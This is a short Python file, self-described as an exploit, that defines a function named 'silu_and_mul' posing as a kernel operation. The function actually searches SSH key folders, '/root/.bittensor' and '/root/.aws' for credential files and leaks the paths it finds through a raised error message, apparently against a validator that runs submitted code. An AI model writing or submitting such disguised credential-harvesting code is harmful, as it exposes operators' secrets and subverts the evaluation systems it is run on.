"""Exploit: read the validator's SSH keys and cloud credentials from its home directory."""
import glob
import os


def silu_and_mul(x, out):
    found = []
    for pattern in ("/root/.ssh/*", "/home/*/.ssh/*", os.path.expanduser("~/.ssh/*"), "/root/.bittensor/*",
                    "/root/.aws/*"):
        found += glob.glob(pattern)
    raise RuntimeError(f"credentials found: {found or 'none'}")
